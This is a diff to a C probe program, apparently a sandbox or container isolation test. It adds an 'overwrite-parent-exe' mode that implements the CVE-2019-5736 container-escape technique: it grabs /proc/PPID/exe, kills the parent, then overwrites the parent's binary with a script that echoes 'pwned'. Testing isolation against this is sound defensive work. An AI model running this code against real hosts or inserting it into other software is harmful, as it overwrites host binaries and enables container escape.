@@ -8,9 +8,16 @@
  *   probe fork N     forks N children that sleep; prints "forked K" and, when a fork fails, its errno's name
  *   probe spin SECS  a busy loop for SECS seconds of wall time; prints the cpu seconds it got
  *   probe add-key    calls add_key(2) (no capability needed): prints "ok" or the errno's name
+ *   probe overwrite-parent-exe RESULT
+ *                    the CVE-2019-5736 attack on whatever binary the parent process runs: holds
+ *                    /proc/PPID/exe open (O_PATH), kills the parent, reopens the file for
+ *                    writing once it is no longer busy and writes to it; puts "overwritten" or
+ *                    the step that failed and its errno's name into RESULT, then creates
+ *                    RESULT.done
  */
 #define _GNU_SOURCE
 #include <errno.h>
+#include <fcntl.h>
 #include <netinet/in.h>
 #include <signal.h>
 #include <sys/socket.h>
@@ -22,6 +29,56 @@
 #include <unistd.h>
 
 static volatile sig_atomic_t got;
+
+static const char *errno_name(int e)
+{
+    switch (e) {
+    case EPERM: return "EPERM";
+    case EACCES: return "EACCES";
+    case ETXTBSY: return "ETXTBSY";
+    case ENOENT: return "ENOENT";
+    case EROFS: return "EROFS";
+    case ESRCH: return "ESRCH";
+    default: return "other";
+    }
+}
+
+static int overwrite_parent_exe(const char *result)
+{
+    char path[64], out[128];
+    pid_t parent = getppid();
+    snprintf(path, sizeof(path), "/proc/%d/exe", (int)parent);
+    int fd = open(path, O_PATH | O_CLOEXEC);
+    if (fd < 0) {
+        snprintf(out, sizeof(out), "open %s: %s\n", path, errno_name(errno));
+    } else {
+        kill(parent, SIGKILL);
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+        int w = -1;
+        for (int i = 0; i < 500; i++) { /* busy (ETXTBSY) until the parent's memory is gone */
+            w = open(path, O_WRONLY | O_CLOEXEC);
+            if (w >= 0 || errno != ETXTBSY)
+                break;
+            usleep(10000);
+        }
+        if (w < 0)
+            snprintf(out, sizeof(out), "open for writing: %s\n", errno_name(errno));
+        else if (write(w, "#!/bin/sh\necho pwned\n", 21) != 21)
+            snprintf(out, sizeof(out), "write: %s\n", errno_name(errno));
+        else
+            snprintf(out, sizeof(out), "overwritten\n");
+    }
+    FILE *f = fopen(result, "w");
+    if (!f)
+        return 1;
+    fputs(out, f);
+    fclose(f);
+    snprintf(path, sizeof(path), "%s.done", result);
+    f = fopen(path, "w");
+    if (f)
+        fclose(f);
+    return 0;
+}
 
 static void on_signal(int sig) { got = sig; }
 
@@ -105,6 +162,8 @@ int main(int argc, char **argv)
         printf("%s\n", r >= 0 ? "ok" : errno == EPERM ? "EPERM" : errno == ENOSYS ? "ENOSYS" : "other");
         return 0;
     }
-    fprintf(stderr, "usage: probe ids|signals|raw-socket|alloc MB|fork N|spin SECS|add-key\n");
+    if (argc > 2 && !strcmp(argv[1], "overwrite-parent-exe"))
+        return overwrite_parent_exe(argv[2]);
+    fprintf(stderr, "usage: probe ids|signals|raw-socket|alloc MB|fork N|spin SECS|add-key|overwrite-parent-exe RESULT\n");
     return 2;
 }
